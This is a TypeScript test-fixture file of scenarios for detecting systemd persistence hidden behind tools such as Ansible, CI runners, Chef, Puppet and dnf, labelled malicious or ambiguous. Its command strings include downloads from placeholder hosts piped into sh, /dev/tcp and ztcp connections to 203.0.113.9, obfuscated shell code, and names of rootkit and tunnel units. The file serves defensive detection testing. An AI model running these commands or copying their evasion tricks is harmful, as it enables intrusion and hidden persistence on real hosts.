import { ran, scenarios, wrote } from './scenario.ts';

const ENABLE = 'systemctl enable --now updater.service';
const USER_ENABLE = 'systemctl --user enable updater.service';
const ANSIBLE = '.ansible/tmp/ansible-tmp-1763911001.44-20817-1143/AnsiballZ_systemd.py';
const GUID = '2f0c8a1e-7f35-4e2b-9a61-0a5a7f7c9d10';
const CHEF = '/opt/chef/embedded/bin/ruby /usr/bin/chef-client';
const PUPPET = '/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet';
const DEB_INVOKE = '/usr/bin/deb-systemd-invoke start updater.service';

/** systemctl below a tool of the host, whose command line is to be judged. */
function below(parent: string, line: string, grandparent = 'systemd') {
  return ran('root', ENABLE, parent, line, grandparent);
}

/** A step of Buildkite, whose code is there to read. */
function step(code: string) {
  return ran('buildkite-agent', USER_ENABLE, 'bash', `/bin/bash -e -c ${code}`, 'buildkite-agent');
}

/** An action of GitHub's runner on the node that it brings along. */
function action(given: string) {
  const line = `/home/runner/externals/node20/bin/node ${given}`.trim();
  return ran('runner', USER_ENABLE, 'node', line, 'Runner.Worker');
}

const named = (unit: string) =>
  ran('root', `systemctl enable --now ${unit}`, 'python3', `/usr/bin/python3 /root/${ANSIBLE}`, 'sh');

/** Attacks behind the disguise of a tool: what gives them away makes them likely-malicious. */
export const maliciousDisguiseScenarios = scenarios('malicious', 'disguise', [
  ["code behind Ansible's module", below('python3', `/usr/bin/python3 /root/${ANSIBLE} -c import os`, 'sh')],
  ["a script behind Ansible's module", below('python3', `/usr/bin/python3 /root/${ANSIBLE} /srv/x.py`, 'sh')],
  [
    "code behind a step's script",
    below('sh', 'sh -xe /opt/jenkins/workspace/a@tmp/durable-1/script.sh -c /srv/x', 'java'),
  ],
  [
    'code behind a run step',
    ran('runner', USER_ENABLE, 'bash', `bash -e /home/runner/work/_temp/${GUID}.sh -c x`, 'Runner.Worker'),
  ],
  ['code behind a scriptlet', below('sh', 'sh /var/tmp/rpm-tmp.AbC123 -c /usr/bin/x', 'python3')],
  [
    "code behind cloud-init's script",
    below('sh', 'sh /var/lib/cloud/instance/scripts/runcmd -c x', 'python3'),
  ],
  ['a step that runs a file in /tmp', step('/tmp/x & systemctl --user enable updater')],
  ['a step that sources a file in /tmp', step('. /tmp/x; systemctl --user enable updater')],
  ['a step that goes to /var/tmp', step('cd /var/tmp/x; ./run; systemctl --user enable updater')],
  ['a step that runs a hidden file', step('nohup ~/.cache/.d/x & systemctl --user enable updater')],
  ['a step that hands over a file in /var/tmp', step('bash /var/tmp/a.sh')],
  ['a step that downloads from an address without a scheme', step('curl 203.0.113.9/a -o a; sh a')],
  ['a step that hides a network file in quotes', step("exec 3<>/dev/t''cp/203.0.113.9/443")],
  ['a step that decodes with two letters', step('base64 -di x > y')],
  ['a step that reads a file of /tmp', step('sh < /tmp/x')],
  ['a step that pipes a file of /tmp', step('cat /tmp/x | sh')],
  ['a step that runs what a file of /tmp says', step('$(cat /tmp/x)')],
  ['a step that runs a file of /tmp under a condition', step('if true; then /tmp/x; fi')],
  ['a step that runs a file of /tmp in a group', step('{ /tmp/x; }')],
  ['a step that has find run a file of /tmp', step('find /srv -name x -exec /tmp/x {} +')],
  ['a step that has the loader run a file of /tmp', step('/lib64/ld-linux-x86-64.so.2 /tmp/x')],
  ['a step with code of awk', step('awk BEGIN{system("x")}')],
  [
    'a program out of /tmp among those of the host',
    below('sh', 'sh -c cp /tmp/x /usr/sbin/updater; systemctl enable --now updater', 'python3'),
  ],
  ['an archive in /tmp', below('java', '/usr/bin/java -jar /tmp/a.jar', 'bash')],
  ['a step of zsh', step('zmodload zsh/net/tcp && ztcp 203.0.113.9 443')],
  ['a unit of an implant', named('diamorphine.service')],
  ["gsocket's unit", named('defunct.service')],
  ["gsocket's other unit", named('gs-dbus')],
  ['a unit of a tunnel', named('ngrok.service')],
  ['a thread of the device mapper', named('kdmtmpflush')],
  ['Chef with a configuration in /tmp', below('ruby', `${CHEF} -c /tmp/client.rb`)],
  [
    'Salt with a configuration in /var/tmp',
    below('python3', '/usr/bin/python3 /usr/bin/salt-minion -c /var/tmp/s'),
  ],
  [
    'a module under an account that is named like root',
    ran('Root', ENABLE, 'python3', `/usr/bin/python3 /root/${ANSIBLE}`, 'sh'),
  ],
  ['perl with a search path in /tmp', below('perl', `/usr/bin/perl -I/tmp/lib ${DEB_INVOKE}`, 'sh')],
  [
    'ruby with a library in /var/tmp',
    below('ruby', `/opt/chef/embedded/bin/ruby -r /var/tmp/x.rb /usr/bin/chef-client`),
  ],
  ['Puppet with its directory in /tmp', below('ruby', `${PUPPET} agent -t --confdir=/tmp/p`)],
  [
    'dnf with packages of an address',
    below('python3', '/usr/bin/python3 /usr/bin/dnf -y install http://203.0.113.9/x.rpm', 'bash'),
  ],
  [
    "a person runs a module of root's",
    ran('mallory', USER_ENABLE, 'python3', `/usr/bin/python3 /root/${ANSIBLE}`, 'sh'),
  ],
  [
    "a path that leaves Ansible's directory",
    below(
      'python3',
      '/usr/bin/python3 /root/.ansible/tmp/ansible-tmp-1-2-3/../../../../srv/AnsiballZ_x.py',
      'sh',
    ),
  ],
  [
    "a path that leaves a step's directory",
    below('sh', 'sh -xe /opt/a@tmp/durable-1/../../../srv/script.sh', 'java'),
  ],
  [
    'a program without a file',
    ran('root', ENABLE, 'python3', `/usr/bin/python3 /root/${ANSIBLE}`, 'memfd:x'),
  ],
  ['a script of expect in /tmp', below('expect', '/usr/bin/expect /tmp/x.exp', 'python3')],
  ["a task queue's account", ran('celery', USER_ENABLE, 'sh', `sh -c ${USER_ENABLE}`, 'celery')],
  [
    "a server of the web by its program's name",
    ran('deploy', USER_ENABLE, 'sh', `sh -c ${USER_ENABLE}`, 'grafana-server'),
  ],
  ['a thread of another name', named('mdadm_kworker')],
  [
    "the host's root",
    ran(
      'root',
      'systemctl --root=/host enable updater',
      'python3',
      `/usr/bin/python3 /root/${ANSIBLE}`,
      'sh',
    ),
  ],
]);

/** Quiet attacks behind such a disguise: nothing proves them, and nothing may excuse them. */
export const quietDisguiseScenarios = scenarios('ambiguous', 'disguise', [
  ['a step that runs what it fetched', step('curl https://x.example.net/a > a; sh a')],
  ['a step that runs what it fetched beside it', step('wget https://x.example.net/a; ./a')],
  ['a step that copies a file of /tmp home', step('cp /tmp/x ~/.local/bin/x; x')],
  ['a step that unpacks its code', step('gzip -dc x.gz | sh')],
  ['a step that turns its code', step('echo uggc | tr a-z n-za-m | sudo bash')],
  ['a step whose shell is a variable', step('a=s; b=h; cat x | $a$b')],
  ['a step that hands a variable to a shell', step('bash <<< "$X"')],
  ['a step with /tmp in a variable', step('T=/tmp; $T/x')],
  ['a step with a module for node', step('NODE_OPTIONS=--require=./x.js npm run deploy')],
  [
    "an extension of Azure's guest agent",
    below('python3', '/usr/bin/python3 -u /usr/sbin/waagent -run-exthandlers', 'python3'),
  ],
  [
    "what is called netplan and starts another's unit",
    ran('root', 'systemctl start x', 'python3', '/usr/bin/python3 /usr/sbin/netplan apply', 'bash'),
  ],
  [
    'what looks like the store of NixOS',
    below(
      'perl',
      '/home/x/nix/store/3c4d-perl-5/bin/perl /home/x/nix/store/1-nixos-system-a/bin/switch-to-configuration',
    ),
  ],
  [
    "systemd's helper in another place",
    below('bash', '/usr/bin/bash /usr/local/lib/systemd-update-helper system-reload', 'python3.9'),
  ],
  [
    "a task of Azure Pipelines in a person's home, below node",
    ran('mallory', USER_ENABLE, 'bash', `bash /home/mallory/_work/_temp/${GUID}.sh`, 'node'),
  ],
  [
    "Terraform's script below java",
    ran('ubuntu', USER_ENABLE, 'sh', '/bin/sh /tmp/terraform_1928374655.sh', 'java'),
  ],
  [
    "a JavaScript action in another's home",
    ran(
      'mallory',
      USER_ENABLE,
      'node',
      '/home/alice/r/externals/node20/bin/node /home/alice/r/_work/_actions/a/index.js',
      'Runner.Worker',
    ),
  ],
  ['perl with another search path', below('perl', `/usr/bin/perl -I/srv/lib ${DEB_INVOKE}`, 'sh')],
  ['perl with a module', below('perl', `/usr/bin/perl -MEvil ${DEB_INVOKE}`, 'sh')],
  ['perl with a script within another', below('perl', `/usr/bin/perl -x/srv ${DEB_INVOKE}`, 'sh')],
  [
    'ruby with a library by its long option',
    below('ruby', '/opt/chef/embedded/bin/ruby --require=/srv/x /usr/bin/chef-client'),
  ],
  [
    'ruby with a script within another',
    below('ruby', '/opt/chef/embedded/bin/ruby -x/srv /usr/bin/chef-client'),
  ],
  [
    'bash with a script from its input',
    below('bash', 'bash -s /opt/jenkins/workspace/a@tmp/durable-1/script.sh', 'java'),
  ],
  ['python with a script from its input', below('python3', `/usr/bin/python3 - /root/${ANSIBLE}`, 'sh')],
  ['node with a script from its input', action('-')],
  ['node with neither script nor input', action('')],
  ['node that waits for a debugger', action('--inspect=0.0.0.0:9229 /home/runner/work/_actions/a/index.js')],
  ['node with variables out of a file', action('--env-file=/srv/e /home/runner/work/_actions/a/index.js')],
  ['Puppet that sets a resource', below('ruby', `${PUPPET} resource service agent`, 'bash')],
  ['dnf with a script', below('python3', '/usr/bin/python3 /usr/bin/dnf shell /srv/x', 'bash')],
  ['what is called like dnf', below('python3', '/usr/bin/python3 /usr/bin/dnf-helper', 'bash')],
  [
    'an extension of the guest agent that is called its daemon',
    ran(
      'root',
      'systemctl start x',
      'python3',
      '/usr/bin/python3 /usr/sbin/waagent -run-exthandlers -daemon',
      'systemd',
    ),
  ],
  ['perl with a debugger', below('perl', `/usr/bin/perl -wd:Evil ${DEB_INVOKE}`, 'sh')],
  ['perl with a module apart', below('perl', `/usr/bin/perl -m Evil ${DEB_INVOKE}`, 'sh')],
  ['ruby with a library', below('ruby', `/opt/chef/embedded/bin/ruby -r/srv/x.rb /usr/bin/chef-client`)],
  ['ruby with a search path', below('ruby', `/opt/chef/embedded/bin/ruby -I /srv -rx /usr/bin/chef-client`)],
  [
    'bash with a start-up file',
    below('bash', 'bash --rcfile /srv/rc /opt/jenkins/workspace/a@tmp/durable-1/script.sh', 'java'),
  ],
  [
    'node with a module',
    ran(
      'runner',
      USER_ENABLE,
      'node',
      '/home/runner/externals/node20/bin/node --require=/srv/x.js /home/runner/work/_actions/a/index.js',
      'Runner.Worker',
    ),
  ],
  ['Chef without a server', below('ruby', `${CHEF} -z -o app`, 'bash')],
  ['Chef with another server', below('ruby', `${CHEF} --server https://chef.example.net`)],
  [
    'Chef Solo with recipes from elsewhere',
    below('ruby', '/opt/chef/embedded/bin/ruby /usr/bin/chef-solo -r https://x.example.net/r.tgz'),
  ],
  ['Puppet with another server', below('ruby', `${PUPPET} agent -t --server=puppet.example.net`)],
  ['Puppet with a command before it', below('ruby', `${PUPPET} agent -t --prerun_command /srv/x`)],
  ['Puppet that applies a file named agent', below('ruby', `${PUPPET} apply /srv/agent agent`, 'bash')],
  [
    'Salt with other states',
    below('python3', '/usr/bin/python3 /usr/bin/salt-call --local --file-root=/srv/x state.apply'),
  ],
  [
    'Salt that runs a command',
    below('python3', '/usr/bin/python3 /usr/bin/salt-call --local cmd.run systemctl', 'bash'),
  ],
  [
    'cloud-init with another file',
    below('python3', '/usr/bin/python3 /usr/bin/cloud-init --file /srv/u init'),
  ],
  [
    'one module of cloud-init',
    below('python3', '/usr/bin/python3 /usr/bin/cloud-init single --name runcmd', 'sh'),
  ],
  [
    'dnf with a package of a URL',
    below('python3', '/usr/bin/python3 /usr/bin/dnf install https://x.example.net/x.rpm', 'bash'),
  ],
  [
    'dnf with a package in /tmp',
    below('python3', '/usr/bin/python3 /usr/bin/dnf install /tmp/x.rpm', 'bash'),
  ],
  [
    'dnf without signatures',
    below('python3', '/usr/bin/python3 /usr/bin/dnf --nogpgcheck install x', 'bash'),
  ],
  [
    'dnf with a setting for signatures',
    below('python3', '/usr/bin/python3 /usr/bin/dnf --setopt=gpgcheck=0 install x', 'bash'),
  ],
  [
    'needrestart with another configuration',
    below('perl', '/usr/bin/perl /usr/sbin/needrestart -c /srv/n.conf', 'sh'),
  ],
  ['a step whose code breaks off', step('make deploy && …')],
  [
    "a module in the home of a server's account",
    below('python3', `/usr/bin/python3 /home/tomcat/${ANSIBLE}`, 'sudo'),
  ],
  ["root's shell without a password", named('debug-shell.service')],
  ['a unit that is named by a slip of the finger', named('sshdd.service')],
  ['two neighbours swapped', named('cornd.service')],
  ['a number behind a genuine name', named('crond64.service')],
  ['a letter behind a genuine name', named('dbus-broker-d.service')],
  [
    'another host',
    ran('root', 'systemctl -H root@192.0.2.9 enable x', 'python3', `/usr/bin/python3 /root/${ANSIBLE}`, 'sh'),
  ],
  [
    'a file in the view of a unit',
    ran(
      'root',
      'systemctl bind x.service /opt/x /start',
      'python3',
      `/usr/bin/python3 /root/${ANSIBLE}`,
      'sh',
    ),
  ],
  [
    'a drop-in from standard input',
    ran(
      'root',
      'systemctl edit --stdin --drop-in=start ssh',
      'python3',
      `/usr/bin/python3 /root/${ANSIBLE}`,
      'sh',
    ),
  ],
  [
    'a module that writes below a server',
    wrote(
      'mallory',
      '/etc/systemd/system/x.service',
      'python3',
      `/usr/bin/python3 /home/tomcat/${ANSIBLE}`,
      'sh',
    ),
  ],
]);
